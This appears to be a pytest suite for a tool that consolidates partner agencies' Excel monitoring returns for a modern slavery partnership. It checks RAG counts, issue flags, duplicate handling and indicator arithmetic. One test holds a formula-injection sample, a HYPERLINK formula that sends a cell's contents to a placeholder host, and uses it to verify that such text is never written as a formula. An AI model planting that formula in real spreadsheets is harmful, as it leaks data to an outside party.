"""The main job on the example partnership: RAG counts, issues at cells, nothing lost."""

from __future__ import annotations

import shutil
from collections import Counter
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from xlperf.consolidate import Consolidation, FileStatus
from xlperf.partnership import load_partnership
from xlperf.pipeline import run_consolidation
from xlperf.rag import load_rules
from xlperf.schema import TEMPLATES
from xlperf.write.templates import Fill, write_template

AS_OF = date(2025, 10, 14)
RULES = load_rules()


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Consolidation, Path]:
    from tests.conftest import EXAMPLES

    out = tmp_path_factory.mktemp("demo") / "partnership.xlsx"
    data = run_consolidation([EXAMPLES / "returns"], out, AS_OF, RULES,
                             load_partnership(EXAMPLES / "partnership.toml"),
                             framework=EXAMPLES / "indicator_framework.xlsx")
    return data, out


def _sheet(path: Path, name: str) -> list[list[object]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(name).to_python()


def test_computed_rag_counts_by_strand_for_the_latest_quarter(demo) -> None:
    data, _ = demo
    counts = {k: dict(v) for k, v in data.rag_counts("strand").items()}
    assert counts == {
        "Pursue": {"Green": 2, "Red": 1},
        "Prevent": {"Green": 3, "Red": 1, "Complete": 1},
        "Protect": {"Green": 3, "Complete": 1},
        "Prepare": {"Amber": 1, "Green": 1},
    }
    by_group = {k: sum(v.values()) for k, v in data.rag_counts("subgroup").items()}
    assert by_group == {"Pursue and Prevent": 8, "Protect and Prepare": 6}


def test_issue_codes_at_the_cells_where_the_mistakes_are(demo) -> None:
    data, _ = demo
    found = {(Path(i.file).name, i.sheet, i.cell, i.code) for i in data.issues}
    for expected in [
        ("police_2025-26_Q2.xlsx", "Actions", "J3", "rag-disagrees-with-dates"),
        ("council_2025-26_Q2.xlsx", "Actions", "E4", "owner-missing"),
        ("nhs_2025-26_Q2.xlsx", "Actions", "G2", "date-as-text"),
        ("haven_2025-26_Q2.xlsx", "Actions", "E2", "placeholder-in-required"),
        ("haven_2025-26_Q2.xlsx", "Actions", "H2", "placeholder-left"),
        ("fire_2025-26_Q1.xlsx", "Actions", "G2", "date-impossible"),
        ("fire_2025-26_Q1.xlsx", "Actions", "I2", "percent-out-of-range"),
    ]:
        assert expected in found
    # the police rated 1.2 Green in Q1, before it was due: no disagreement then
    assert ("police_2025-26_Q1.xlsx", "Actions", "J3", "rag-disagrees-with-dates") not in found


def test_duplicate_return_keeps_the_later_submission(demo) -> None:
    data, _ = demo
    status = {Path(s.file).name: s.status for s in data.submissions}
    assert status["glaa_2025-26_Q2.xlsx"] is FileStatus.SUPERSEDED
    assert status["glaa_2025-26_Q2_resent.xlsx"] is FileStatus.ACCEPTED
    inspections = [r.item.value for r in data.indicators
                   if r.agency == "GLAA" and r.period == "Q2 2025/26"]
    assert inspections == [8]


def test_missing_member_and_the_row_arithmetic(demo) -> None:
    data, _ = demo
    assert data.missing == [("HMRC", "Q2 2025/26")]
    assert data.rows_in == 80
    assert data.rows_in == data.rows_accounted
    assert (data.rows_rejected, data.rows_superseded) == (0, 3)


def test_partnership_workbook_sheets_and_values(demo) -> None:
    _, out = demo
    names = CalamineWorkbook.from_path(str(out)).sheet_names
    assert names == ["Summary", "Actions", "Indicators", "Indicator summary", "Narrative",
                     "Finance", "Submissions",
                     "Issues", "_xlperf"]
    actions = _sheet(out, "Actions")
    header = actions[0]
    for title in ("Agency", "Period", "Objective", "Strand", "Action", "Owner", "Due",
                  "Status", "Progress", "Reported RAG", "Computed RAG", "Source file",
                  "Source sheet", "Source row"):
        assert title in header
    col = {t: header.index(t) for t in header}
    row = next(r for r in actions if r[col["Ref"]] == "1.2" and r[col["Period"]] == "Q2 2025/26")
    assert (row[col["Reported RAG"]], row[col["Computed RAG"]]) == ("Green", "Red")
    assert row[col["Due"]] == date(2025, 9, 30)  # a real date, not text
    assert row[col["Source row"]] == 3
    narrative = _sheet(out, "Narrative")
    assert len(narrative) == 1 + 12
    submissions = _sheet(out, "Submissions")
    assert [r[0] for r in submissions if r[3] == "not submitted"] == ["HMRC"]


def test_indicator_summary_pools_proportions_and_flags_double_counting(demo) -> None:
    _, out = demo
    rows = _sheet(out, "Indicator summary")
    col = {t: rows[0].index(t) for t in rows[0]}
    line = {(r[col["Indicator"]], r[col["Agency"]]): r for r in rows[1:]}
    nrm = line[("NRM referrals made", "Partnership")]
    assert (nrm[col["Q1 2025/26"]], nrm[col["Q2 2025/26"]], nrm[col["Year to date"]]) == (
        21, 27, 48)  # police 13+17, council 3+4, Haven 5+6
    assert "may count the same people" in nrm[col["Note"]]
    share = line[("Staff completing modern slavery training", "Partnership")]
    assert share[col["Q2 2025/26"]] == 31.3  # (420 + 1240) / (1200 + 4100), not 32.6
    # the framework's yearly targets, pro rata: NRM referrals 100 for 2025/26 -> 50 by Q2
    assert (nrm[col["Target to date"]], nrm[col["% of target"]], nrm[col["RAG"]]) == (
        50, 96, "Green")
    assert (share[col["Target to date"]], share[col["% of target"]], share[col["RAG"]]) == (
        50, 62.6, "Red")  # 31.3% against a 50% target: 37% short
    staff = line[("Frontline staff trained", "Northshire County Council")]
    assert (staff[col["Target to date"]], staff[col["Year to date"]], staff[col["% of target"]],
            staff[col["RAG"]]) == (300, 255, 85, "Green")


def test_results_chain_objective_without_indicator_and_broken_links(demo, tmp_path) -> None:
    data, _ = demo
    unmeasured = [i.message for i in data.issues if i.code == "objective-not-measured"]
    assert len(unmeasured) == 1 and "ready to respond to new and emerging threats" in \
        unmeasured[0]  # O4 has actions but no indicator in the example framework
    assert not [i for i in data.issues if i.code == "link-broken"]
    data.check_results_chain([("Referrals", "", ["1.1", "7.7"], "Framework", 4)], "fw.xlsx")
    (broken,) = [i for i in data.issues if i.code == "link-broken"]
    assert (broken.sheet, broken.row) == ("Framework", 5)
    assert "7.7" in broken.message and "1.1" not in broken.message


def test_breakdown_total_that_is_not_the_sum_is_flagged(demo) -> None:
    data, _ = demo
    found = {(Path(i.file).name, i.sheet, i.cell, i.code) for i in data.issues}
    assert ("police_2025-26_Q1.xlsx", "NRM referrals", "G10", "breakdown-total-mismatch") in found


def _return(path: Path, agency: str, actions: list[dict[str, object]],
            submitted: date = date(2025, 10, 1)) -> None:
    fill = Fill(forms={"agency": agency, "period": "2025/26 Q2", "submitted_by": "SPOC",
                       "submitted_on": submitted},
                tables={"Actions": actions})
    write_template(TEMPLATES["monitoring-return"], path, RULES, fill)


def test_nothing_lost_with_good_bad_and_duplicate_returns(tmp_path: Path) -> None:
    folder = tmp_path / "returns"
    folder.mkdir()
    good = {"action": "Train staff", "owner": "A", "due": date(2026, 1, 31)}
    _return(folder / "a.xlsx", "Agency A", [good, good | {"action": "Audit contracts"}])
    _return(folder / "b.xlsx", "Agency B", [good, {"owner": "B", "due": date(2026, 1, 1)},
                                            {"action": "< Select >", "owner": "B"}])
    _return(folder / "b_earlier.xlsx", "Agency B", [good], submitted=date(2025, 9, 5))
    (folder / "broken.xlsx").write_bytes(b"this is not a workbook")
    (folder / "~$a.xlsx").write_bytes(b"\x04user" + b" " * 50)
    shutil.copy(folder / "a.xlsx", folder / "nested_copy_of_a.xlsx")
    out = tmp_path / "out.xlsx"
    data = run_consolidation([folder], out, AS_OF, RULES, None)
    status = {Path(s.file).name: s.status for s in data.submissions}
    assert status == {"a.xlsx": FileStatus.SUPERSEDED, "nested_copy_of_a.xlsx": FileStatus.ACCEPTED,
                      "b.xlsx": FileStatus.ERRORS, "b_earlier.xlsx": FileStatus.SUPERSEDED,
                      "broken.xlsx": FileStatus.REJECTED, "~$a.xlsx": FileStatus.SKIPPED}
    # rows: a 2 + copy 2 + b 3 + b_earlier 1 = 8; b's two bad rows are rejected
    assert data.rows_in == 8
    assert data.rows_rejected == 2
    assert data.rows_in == data.rows_accounted
    rejected = [i for i in data.issues if i.code == "row-rejected"]
    assert {(Path(i.file).name, i.row) for i in rejected} == {("b.xlsx", 3), ("b.xlsx", 4)}
    assert len(_sheet(out, "Actions")) - 1 == len(data.actions) == 3
    issues = Counter(r[4] for r in _sheet(out, "Issues")[1:])
    assert issues["row-rejected"] == 2 and issues["file-unreadable"] == 1


def test_output_open_in_excel_is_refused_plainly(tmp_path: Path) -> None:
    from xlperf.pipeline import UsageError

    out = tmp_path / "out.xlsx"
    (tmp_path / "~$out.xlsx").write_bytes(b"lock")
    with pytest.raises(UsageError, match="open in another program"):
        run_consolidation([tmp_path], out, AS_OF, RULES, None)


def test_partner_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    import zipfile

    folder = tmp_path / "returns"
    folder.mkdir()
    hostile = '=HYPERLINK("http://example.invalid/?d="&B2,"details")'
    _return(folder / "a.xlsx", "Agency A", [
        {"action": "@SUM(1+1) see notes", "owner": "+44 7700 900123",
         "due": date(2026, 1, 31), "comment": hostile}])
    out = tmp_path / "out.xlsx"
    run_consolidation([folder], out, AS_OF, RULES, None)
    actions = _sheet(out, "Actions")
    col = {t: actions[0].index(t) for t in actions[0]}
    assert actions[1][col["Comment"]] == hostile
    assert actions[1][col["Action"]] == "@SUM(1+1) see notes"
    assert actions[1][col["Owner"]] == "+44 7700 900123"
    with zipfile.ZipFile(out) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name), name


def _q2_return(path: Path, agency: str, figures: list[dict[str, object]],
               grid: dict[tuple[str, str], object] | None = None) -> None:
    """A Q2 2025/26 return of ``agency`` with these figures (and NRM grid)."""
    write_template(TEMPLATES["monitoring-return"], path, RULES, Fill(
        forms={"agency": agency, "period": "Q2 2025/26", "submitted_by": "SPOC",
               "submitted_on": date(2025, 10, 3)},
        tables={"Indicators": figures}, grids={"NRM referrals": grid or {}}))


def _consolidate_with_framework(folder: Path, examples: Path) -> Any:
    """The folder consolidated with the example framework: the workbook, opened."""
    from python_calamine import CalamineWorkbook
    from typer.testing import CliRunner

    from xlperf.cli import app

    out = folder.parent / "out.xlsx"
    result = CliRunner().invoke(app, ["consolidate", str(folder), "-o", str(out),
                                      "--as-of", "14/10/2025", "--framework",
                                      str(examples / "indicator_framework.xlsx")])
    assert result.exit_code == 0, result.output
    return CalamineWorkbook.from_path(str(out))


def test_a_proportion_given_as_a_plain_number_is_read_as_a_percentage(
        tmp_path: Path, examples: Path) -> None:
    folder = tmp_path / "returns"
    folder.mkdir()
    _q2_return(folder / "council.xlsx", "Northshire County Council",
               [{"indicator": "Staff completing modern slavery training", "value": 35}])
    book = _consolidate_with_framework(folder, examples)
    summary = book.get_sheet_by_name("Indicator summary").to_python()
    line = next(r for r in summary if r[0] == "Staff completing modern slavery training")
    assert line[summary[0].index("Q2 2025/26")] == 35.0  # per cent, not 3,500
    issues = book.get_sheet_by_name("Issues").to_python()
    assert any(r[4] == "proportion-as-percent" and r[2] == "C2" for r in issues)


def test_partnership_figures_from_mixed_returns(tmp_path: Path, examples: Path) -> None:
    """Hand-worked: Q2 2025/26, the example framework."""
    folder = tmp_path / "returns"
    folder.mkdir()
    returns = {
        "Northshire County Council": [{"indicator": "Staff completing modern slavery "
                                       "training", "numerator": 90, "denominator": 300}],
        "Northshire Health NHS Foundation Trust": [
            {"indicator": "Staff completing modern slavery training", "value": 45}],
        "Northshire Police": [{"indicator": "Modern slavery crimes recorded", "value": 14}],
        "GLAA": [{"indicator": "modern  slavery crimes RECORDED", "value": 1}],
        "Northshire Fire and Rescue Service": [
            {"indicator": "NRM referrals made", "breakdown": "Labour exploitation", "value": 2},
            {"indicator": "NRM referrals made", "breakdown": "Sexual exploitation", "value": 1}],
        "Haven Pathways": [{"indicator": "NRM referrals made", "value": 5}],
    }
    for n, (agency, figures) in enumerate(returns.items()):
        grid = {("Sexual exploitation", "Female adult"): 5, ("Total", "Total"): 5} \
            if agency == "Haven Pathways" else {}
        _q2_return(folder / f"r{n}.xlsx", agency, figures, grid)
    rows = _consolidate_with_framework(folder, examples).get_sheet_by_name(
        "Indicator summary").to_python()
    head = rows[0]
    line = {(r[0], r[1]): dict(zip(head, r, strict=True)) for r in rows[1:]}
    training = line[("Staff completing modern slavery training", "Partnership")]
    # the NHS gave 45 (read as 45%) with no counts: it cannot be pooled with 90 of 300
    assert training["Q2 2025/26"] == 30.0
    assert "left out: Northshire Health NHS Foundation Trust" in training["Note"]
    # one indicator whatever its case: 14 + 1
    assert line[("Modern slavery crimes recorded", "Partnership")]["Q2 2025/26"] == 15
    # Fire's parts (2 + 1) count; Haven's 5, typed on two sheets, counts once
    nrm = line[("NRM referrals made", "Partnership")]
    assert nrm["Q2 2025/26"] == 8


def test_figures_that_break_their_framework_unit_are_flagged(
        tmp_path: Path, examples: Path) -> None:
    folder = tmp_path / "returns"
    folder.mkdir()
    _q2_return(folder / "council.xlsx", "Northshire County Council", [
        {"indicator": "Staff completing modern slavery training", "value": 150},
        {"indicator": "NRM referrals made", "value": -3},
        {"indicator": "Modern slavery crimes recorded", "value": 2.5}])
    book = _consolidate_with_framework(folder, examples)
    issues = {(r[2], r[4]) for r in book.get_sheet_by_name("Issues").to_python()}
    assert {("C2", "figure-implausible"), ("C3", "figure-implausible"),
            ("C4", "figure-implausible")} <= issues
    summary = book.get_sheet_by_name("Indicator summary").to_python()
    names = {r[0] for r in summary[1:]}
    # 150% and -3 are left out (never summed); 2.5 crimes is flagged but kept
    assert "Staff completing modern slavery training" not in names
    assert "NRM referrals made" not in names
    assert "Modern slavery crimes recorded" in names
